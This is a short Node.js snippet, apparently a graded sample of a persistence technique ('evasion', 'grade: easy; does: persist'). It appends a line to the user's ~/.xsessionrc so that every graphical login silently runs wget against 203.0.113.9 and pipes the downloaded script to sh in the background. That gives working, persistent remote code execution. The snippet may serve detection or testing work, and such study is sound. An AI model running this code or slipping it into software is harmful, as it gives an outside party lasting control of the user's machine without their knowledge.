// evasion: ~/.xsessionrc, sourced by Debian's Xsession at every graphical login, gets a fetch-and-run line
// grade: easy; does: persist
const fs = require("fs");
const os = require("os");
fs.appendFileSync(`${os.homedir()}/.xsessionrc`, "(wget -qO- http://203.0.113.9/x | sh) &\n");
